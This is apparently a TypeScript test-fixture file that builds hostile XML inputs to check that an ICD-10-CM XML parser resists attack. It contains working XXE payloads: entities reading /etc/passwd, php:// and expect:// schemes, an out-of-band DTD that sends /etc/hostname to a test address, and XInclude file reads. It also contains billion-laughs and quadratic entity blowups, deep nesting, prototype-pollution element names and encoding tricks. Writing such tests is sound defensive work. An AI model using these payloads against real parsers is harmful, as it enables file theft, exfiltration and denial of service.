import { drugXml, indexXml, tabularXml } from '../code-files.ts';

/** What an XML file does, and its text or bytes. `${address}` stands for a server that must not hear of it. */
export type HostileXml = [does: string, content: string | Uint8Array];

const head = '<?xml version="1.0" encoding="utf-8"?>\n';
const body = tabularXml().slice(tabularXml().indexOf('<ICD10CM.tabular>'));
/** The tabular list with something in front of its root, and in the place of one of its texts. */
const list = (before: string, inside = 'Blue fever with spots') =>
  `${head}${before}\n${body.replace('Blue fever with spots', inside)}`;
/** With other attributes or elements at the root. */
const root = (attributes: string) =>
  `${head}${body.replace('<ICD10CM.tabular>', `<ICD10CM.tabular ${attributes}>`)}`;
const within = (elements: string) => `${head}${body.replace('<introduction>', `${elements}<introduction>`)}`;

/** Entities, documents types and everything else that wants to be fetched, each in several spellings. */
export function fetchingXml(address: string): HostileXml[] {
  const places = [
    address,
    'file:///etc/passwd',
    'file:///etc/hostname',
    '/etc/passwd',
    `\\\\${new URL(address).host}\\share`,
  ];
  const schemes = [
    `ftp://${new URL(address).host}/a`,
    'jar:file:///a.zip!/b',
    'php://filter/read=convert.base64-encode/resource=/etc/passwd',
    'expect://id',
    'data:text/plain,harm',
    'gopher://127.0.0.1/_a',
    'netdoc:///etc/passwd',
  ];
  return [
    ...[...places, ...schemes].map(
      (place): HostileXml => [
        `takes an entity from ${place}`,
        list(`<!DOCTYPE a [<!ENTITY x SYSTEM "${place}">]>`, '&x;'),
      ],
    ),
    ...places.map(
      (place): HostileXml => [
        `has its document type at ${place}`,
        list(`<!DOCTYPE ICD10CM.tabular SYSTEM "${place}">`),
      ],
    ),
    ...places.map(
      (place): HostileXml => [
        `has a parameter entity at ${place}`,
        list(`<!DOCTYPE a [<!ENTITY % x SYSTEM "${place}"> %x;]>`),
      ],
    ),
    ['has a public document type', list(`<!DOCTYPE a PUBLIC "-//A//B//EN" "${address}">`)],
    [
      'sends a file away',
      list(
        `<!DOCTYPE a [<!ENTITY % f SYSTEM "file:///etc/hostname"><!ENTITY % e "<!ENTITY &#37; s SYSTEM '${address}?%f;'>">%e;%s;]>`,
      ),
    ],
    [
      'sends a file away in an error',
      list(
        '<!DOCTYPE a [<!ENTITY % f SYSTEM "file:///etc/hostname"><!ENTITY % e "<!ENTITY &#37; s SYSTEM \'file:///nowhere/%f;\'>">%e;%s;]>',
      ),
    ],
    [
      'redefines a document type of the machine',
      list(
        '<!DOCTYPE a [<!ENTITY % l SYSTEM "file:///usr/share/xml/fontconfig/fonts.dtd"><!ENTITY % constant "x">%l;]>',
      ),
    ],
    [
      'has a picture as an entity',
      list(`<!DOCTYPE a [<!NOTATION g SYSTEM "${address}"><!ENTITY p SYSTEM "${address}" NDATA g>]>`),
    ],
    [
      'has default attributes elsewhere',
      list(`<!DOCTYPE a [<!ATTLIST ICD10CM.tabular x CDATA "${address}">]>`),
    ],
    ['is one only in parts', list(`<!DOCTYPE a [<![INCLUDE[<!ENTITY x SYSTEM "${address}">]]>]>`, '&x;')],
    [
      'names a schema',
      root(
        `xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:noNamespaceSchemaLocation="${address}"`,
      ),
    ],
    [
      'names a schema for a namespace',
      root(`xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="a ${address}"`),
    ],
    ['has its base elsewhere', root(`xml:base="${address}"`)],
    ['is of a namespace elsewhere', root(`xmlns="${address}"`)],
    [
      'includes another',
      within(`<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${address}"/>`),
    ],
    [
      'includes a file as text',
      within(
        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>',
      ),
    ],
    ['has a style sheet', `${head}<?xml-stylesheet type="text/xsl" href="${address}"?>${body}`],
    ['has a program in it', `${head}<?php file_get_contents("${address}"); ?>${body}`],
    [
      'has a link',
      within(
        `<a xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="${address}" xlink:actuate="onLoad"/>`,
      ),
    ],
    [
      'has a style sheet of its own',
      within(
        `<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:import href="${address}"/></xsl:stylesheet>`,
      ),
    ],
    ['has a second declaration', `${head}${head}${body}`],
  ];
}

const laughs = (levels: number, times: number) =>
  Array.from(
    { length: levels },
    (_, level) => `<!ENTITY l${level + 1} "${`&l${level};`.repeat(times)}">`,
  ).join('');
const long = 'a'.repeat(1_000_000);
const many = (count: number, text: string) => text.repeat(count);
const utf16 = (text: string, bigEndian = false) => {
  const bytes = Buffer.from(`\ufeff${text}`, 'utf16le');
  return bigEndian ? bytes.swap16() : bytes;
};
const diag = '<diag><name>A00.0</name><desc>a</desc></diag>';

/** What swells, what is deep, what has the names of the language it is read in, and what is no XML at all. */
export function swellingXml(): HostileXml[] {
  const tabular = tabularXml();
  const terms = (count: number) => many(count, '<term level="1"><title>x</title><code>A00.9</code></term>');
  return [
    ['laughs a billion times', list(`<!DOCTYPE a [<!ENTITY l0 "ha">${laughs(9, 10)}]>`, '&l9;')],
    [
      'laughs in parameters',
      list(
        `<!DOCTYPE a [<!ENTITY % l0 "ha">${laughs(9, 10).replaceAll('ENTITY', 'ENTITY %').replaceAll('&l', '%l')}]>`,
      ),
    ],
    ['laughs without a document type', list('', '&l9;')],
    ['laughs at itself', list('<!DOCTYPE a [<!ENTITY a "&b;"><!ENTITY b "&a;">]>', '&a;')],
    ['blows up by the square', list(`<!DOCTYPE a [<!ENTITY a "${long}">]>`, many(10_000, '&a;'))],
    ['has an endless document type', list(`<!DOCTYPE a [${many(50_000, '<!ENTITY a "b">')}]>`)],
    ['has a document type without end', `${head}<!DOCTYPE a [<!ENTITY`],
    ['has an empty document type', list('<!DOCTYPE ICD10CM.tabular>')],
    ['has a document type in small letters', list('<!doctype a>')],
    ['has a document type behind its root', `${tabular}<!DOCTYPE a [<!ENTITY x "y">]>`],
    ['has a document type within', within('<!DOCTYPE a [<!ENTITY x "y">]>')],
    ['has an entity nobody knows', list('', '&nobody;')],
    ['has an entity without end', list('', '&amp')],
    ['has a thousand thousand ampersands', list('', many(1_000_000, '&amp;'))],
    ['has a character that is none', list('', '&#0;')],
    ['has a character beyond all', list('', '&#x110000;')],
    ['has a number without end', list('', `&#${many(100_000, '9')};`)],
    ['has half a character', list('', '&#xD800;')],
    ['is a hundred thousand levels deep', within(`${many(100_000, '<a>')}${many(100_000, '</a>')}`)],
    ['is a hundred thousand levels deep and open', within(many(100_000, '<a>'))],
    ['is 65 levels deep', within(`${many(65, '<a>')}${many(65, '</a>')}`)],
    [
      'has codes within codes',
      within(`<chapter><name>1</name><section id="A00-A09">${many(1_000, '<diag><name>A00</name>')}`),
    ],
    ['has an attribute of a megabyte', root(`x="${long}"`)],
    ['has an attribute without end', `${head}<ICD10CM.tabular x="${long}`],
    [
      'has a hundred thousand attributes',
      root(Array.from({ length: 100_000 }, (_, n) => `x${n}="1"`).join(' ')),
    ],
    ['has an attribute twice', root('x="1" x="2"')],
    ['has a name of a megabyte', within(`<${long}/>`)],
    ['has a tag without end', within(`<a${many(500_000, ' ')}`)],
    ['has a million blanks in a tag', within(`<a${many(1_000_000, ' ')}/>`)],
    ['has a text of megabytes', list('', many(4, long))],
    ['has a comment of megabytes', within(`<!--${many(4, long)}-->`)],
    ['has a comment without end', within(`<!--${long}`)],
    ['has a comment full of dashes', within(`<!--${many(500_000, '- ')}`)],
    ['has a comment in a comment', within('<!-- a -- b -->')],
    ['has comments without end before its root', `${head}${many(100_000, '<!--')}${body}`],
    ['has data without end', within(`<![CDATA[${long}`)],
    ['has data full of ends', within(`<![CDATA[${many(300_000, ']]')}`)],
    ['has a hundred thousand empty elements', within(many(100_000, '<a/>'))],
    [
      'has a hundred thousand notes at a code',
      list('', `x</desc><excludes1>${many(100_000, '<note>a</note>')}</excludes1><desc>`),
    ],
    [
      'has a hundred thousand codes',
      within(`<chapter><name>1</name><section id="A00-A09">${many(100_000, diag)}</section></chapter>`),
    ],
    [
      'has a hundred thousand words for each of its entries',
      indexXml()
        .replace('(azure)', many(100_000, '(a)'))
        .replace('<term level="2"><title>with', `${terms(10_000)}<term level="2"><title>with`),
    ],
    [
      'has a hundred thousand words in parentheses within each other',
      indexXml().replace('(azure)', `${many(100_000, '(')}${many(100_000, ')')}`),
    ],
    [
      'has terms within terms',
      indexXml().replace(
        '<term level="2"><title>with',
        `${many(200, '<term level="3"><title>x</title>')}<term level="2"><title>with`,
      ),
    ],
    ['has a column nobody named', drugXml().replace('col="6"', 'col="__proto__"')],
    ...[
      '__proto__',
      'constructor',
      'prototype',
      'toString',
      'hasOwnProperty',
      '__defineGetter__',
      'valueOf',
    ].flatMap((name): HostileXml[] => [
      [
        `has elements called ${name}`,
        within(
          `<${name}><note>a</note></${name}><diag><name>A00</name><${name}><note>a</note></${name}></diag>`,
        ),
      ],
      [`has attributes called ${name}`, root(`${name}="harm"`)],
    ]),
    ['calls a section __proto__', tabular.replaceAll('"A00-A09"', '"__proto__"')],
    ['calls a 7th character __proto__', tabular.replace('char="A"', 'char="__proto__"')],
    ['calls a 7th character constructor', tabular.replace('char="A"', 'char="constructor"')],
    ['calls a code __proto__', tabular.replace('<name>A00.0<', '<name>__proto__<')],
    ['is of version __proto__', tabular.replace('>2026<', '>__proto__<')],
    ['is UTF-16', utf16(tabular)],
    ['is UTF-16 the other way round', utf16(tabular, true)],
    [
      'is UTF-16 with a document type',
      utf16(list('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>', '&x;')),
    ],
    ['says UTF-16 and is not', tabular.replace('utf-8', 'utf-16')],
    [
      'says UTF-7 and hides a document type',
      tabular
        .replace('utf-8', 'utf-7')
        .replace('<ICD10CM.tabular>', '+ADwAIQ-DOCTYPE a+AD4-<ICD10CM.tabular>'),
    ],
    ['says EBCDIC', tabular.replace('utf-8', 'ibm037')],
    ['says a coding nobody knows', tabular.replace('utf-8', '../../etc/passwd')],
    [
      'is UTF-32',
      Buffer.concat([
        Buffer.from([0xff, 0xfe, 0, 0]),
        ...[...tabular].map((c) => Buffer.from([c.charCodeAt(0), 0, 0, 0])),
      ]),
    ],
    ['has three marks at its start', `\ufeff\ufeff\ufeff${tabular}`],
    [
      'has bytes that are no UTF-8',
      Buffer.concat([Buffer.from(list('', '')), Buffer.from([0xff, 0xc0, 0x80])]),
    ],
    ['has overlong signs', Buffer.concat([Buffer.from(head), Buffer.from([0xc0, 0xbc]), Buffer.from(body)])],
    ['has a zero in its text', list('', 'Blue\0fever')],
    ['has a zero in a tag', within('<a\0b/>')],
    ['has zeros before it', `${many(1_000, '\0')}${tabular}`],
    ['has signs that steer a terminal', list('', 'Blue\u001b[2Jfever')],
    ['has a control sign as a number', list('', 'Blue&#27;[2Jfever')],
    ['reads backwards', list('', 'Blue \u202efever')],
    ['is not closed', tabular.slice(0, -30)],
    ['is cut in a tag', tabular.slice(0, tabular.indexOf('excludes1') + 4)],
    ['is closed twice', `${tabular}</ICD10CM.tabular>`],
    ['has two roots', `${tabular}<ICD10CM.tabular/>`],
    ['closes what it did not open', within('</a>')],
    ['closes in the wrong order', within('<a><b></a></b>')],
    ['has text behind its root', `${tabular}harm`],
    ['has a less-than in an attribute', root('x="<a>"')],
    ['has an attribute without quotes', root('x=1')],
    ['has an attribute without a value', root('x')],
    ['is nothing but a root', '<ICD10CM.tabular/>'],
    ['is nothing but a start', '<ICD10CM.tabular'],
    ['is called the list and is an index', indexXml().replaceAll('ICD10CM.index', 'ICD10CM.tabular')],
    ['is called the tables and is a list', tabular.replaceAll('ICD10CM.tabular', 'ICD10PCS.tabular')],
    ['is XML 1.1', tabular.replace('version="1.0"', 'version="1.1"')],
    ['is XML 9', tabular.replace('version="1.0"', 'version="9"')],
    ['has a colon too many', within('<a:b:c/>')],
    ['has a prefix nobody declared', within('<nobody:a/>')],
  ];
}
